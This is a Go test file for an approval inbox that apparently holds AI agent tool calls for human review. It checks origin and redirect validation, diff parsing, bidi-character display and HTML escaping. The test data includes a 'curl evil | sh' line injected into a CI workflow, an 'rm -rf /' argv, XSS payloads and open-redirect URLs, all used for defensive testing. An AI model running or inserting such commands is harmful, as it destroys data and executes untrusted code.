package inbox

import (
	"bytes"
	"encoding/json"
	"html/template"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/events"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParseOrigin(t *testing.T) {
	for origin, host := range map[string]string{
		"https://inbox.example.com":      "inbox.example.com",
		"https://inbox.example.com:8443": "inbox.example.com",
		"http://localhost:8080":          "localhost",
		"http://inbox.localhost":         "inbox.localhost",
	} {
		got, err := ParseOrigin(origin)
		require.NoError(t, err, origin)
		assert.Equal(t, host, got)
	}
	for origin, why := range map[string]string{
		"http://inbox.example.com":    "https, or http on localhost",
		"https://10.0.0.1":            "not an IP address",
		"http://127.0.0.1:8080":       "https, or http on localhost",
		"https://inbox.example.com/x": "nothing after",
		"https://u:p@example.com":     "nothing after",
		"inbox.example.com":           "scheme://host",
		"":                            "scheme://host",
	} {
		_, err := ParseOrigin(origin)
		assert.ErrorContains(t, err, why, origin)
	}
}

func TestLocalPath(t *testing.T) {
	for p, ok := range map[string]bool{
		"/": true, "/holds/hold_1": true, "/l/abc?x=1": true,
		"//evil.example/": false, "https://evil.example/": false, "/\\evil.example": false, "evil": false, "": false,
	} {
		assert.Equal(t, ok, localPath(p), p)
	}
}

// A unified diff splits into its files, each line with its kind.
func TestDiff(t *testing.T) {
	files := diff("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-old\n+new\n ctx\n--- /dev/null\n+++ b/y\n@@ -0,0 +1 @@\n+y\n")
	require.Len(t, files, 2)
	assert.Equal(t, "x", files[0].Name)
	assert.Equal(t, "y", files[1].Name)
	var kinds []string
	for _, l := range files[0].Lines {
		kinds = append(kinds, l.Kind)
	}
	assert.Equal(t, []string{"meta", "meta", "meta", "hunk", "del", "add", ""}, kinds)
	gone := diff("--- a/z\n+++ /dev/null\n@@ -1 +0,0 @@\n-z\n")
	require.Len(t, gone, 1)
	assert.Equal(t, "a/z", gone[0].Name, "a deleted file keeps its old name")
}

// Lines inside a hunk are what the patch removes and adds, whatever they
// look like: an added "++ b/README.md" or a removed "-- x" does not
// rename the file or start another.
func TestDiffIsNotSpoofedByItsLines(t *testing.T) {
	files := diff("--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,2 +1,3 @@\n--- x\n+++ b/README.md\n+run: curl evil | sh\n keep\n")
	require.Len(t, files, 1)
	assert.Equal(t, ".github/workflows/ci.yml", files[0].Name)
	var kinds []string
	for _, l := range files[0].Lines[2:] {
		kinds = append(kinds, l.Kind)
	}
	assert.Equal(t, []string{"hunk", "del", "add", "add", ""}, kinds)
}

// Control and bidirectional formatting characters show as code points.
func TestVisible(t *testing.T) {
	assert.Equal(t, "a<U+202E>b<U+0000>c\td", visible("a\u202eb\x00c\td"))
	assert.Equal(t, "x\n<U+200B>", visibleLines("x\n\u200b"))
	v := view("exec", mustJSON(t, map[string]any{"argv": []string{"rm", "-rf", "/\u2066x"}}), "")
	assert.Equal(t, []string{"rm", "-rf", "/<U+2066>x"}, v.Argv)
}

// Whatever the args, the hold's page renders them as text: HTML in an
// argv, a patch or JSON never becomes markup.
func TestHoldPageEscapesArgs(t *testing.T) {
	tmpl, err := template.New("").Funcs(funcs(time.Now)).ParseFS(templateFS, "templates/*.html")
	require.NoError(t, err)
	evil := `<script>alert(1)</script><img src=x onerror=alert(2)>"'`
	exp := time.Now().Add(time.Minute)
	op := &events.Op{ID: "op_1", HoldID: "hold_1", Workspace: "w<b>", Tool: "t<i>", Class: "write", Agent: evil, Reason: evil, HoldExpiresAt: &exp, State: events.StateHeld}
	for _, v := range []View{
		view("exec", mustJSON(t, map[string]any{"argv": []string{"/bin/sh", "-c", evil}}), "/srv/"+evil),
		view("apply_patch", mustJSON(t, map[string]string{"patch": "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+" + evil + "\n"}), ""),
		view("remote", mustJSON(t, map[string]string{"x": evil}), ""),
	} {
		var out bytes.Buffer
		require.NoError(t, tmpl.ExecuteTemplate(&out, "hold.html", map[string]any{
			"Title": "Hold", "Approver": "ann", "CSRF": "c", "Op": op, "Pending": true, "View": v,
			"Operands": []kv{{K: evil, V: evil}},
		}))
		html := out.String()
		assert.NotContains(t, html, "<script>alert", v.Kind)
		assert.NotContains(t, html, "<img src=x", v.Kind)
		assert.NotContains(t, html, "<b>", v.Kind)
		assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;", v.Kind)
	}
}

// Args beyond MaxArgsShown are cut, and the page says by how much.
func TestViewCuts(t *testing.T) {
	big := mustJSON(t, map[string]string{"x": strings.Repeat("a", MaxArgsShown+10)})
	v := view("remote", big, "")
	assert.Len(t, v.JSON, MaxArgsShown)
	indented := len(big) + len("\n  \n") + 1 // json.Indent's line breaks, its space after ':'
	assert.Equal(t, indented-MaxArgsShown, v.Cut)
	// JSON of about 100 KiB whose indented form is over the limit.
	many := make([]int, 60_000)
	v = view("remote", mustJSON(t, many), "")
	assert.Positive(t, v.Cut, "args over the limit once indented say so")
	p := view("apply_patch", mustJSON(t, map[string]string{"patch": "+" + strings.Repeat("b", MaxArgsShown)}), "")
	assert.Equal(t, 1, p.Cut)
}

func FuzzView(f *testing.F) {
	f.Add("apply_patch", `{"patch":"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"}`)
	f.Add("exec", `{"argv":["/bin/true"]}`)
	f.Add("x", `not json`)
	f.Fuzz(func(t *testing.T, tool, args string) {
		v := view(tool, json.RawMessage(args), "")
		if v.Kind == "json" && len(v.JSON) > MaxArgsShown {
			t.Fatalf("shows %d bytes", len(v.JSON))
		}
	})
}

func mustJSON(t *testing.T, v any) json.RawMessage {
	t.Helper()
	b, err := json.Marshal(v)
	require.NoError(t, err)
	return b
}
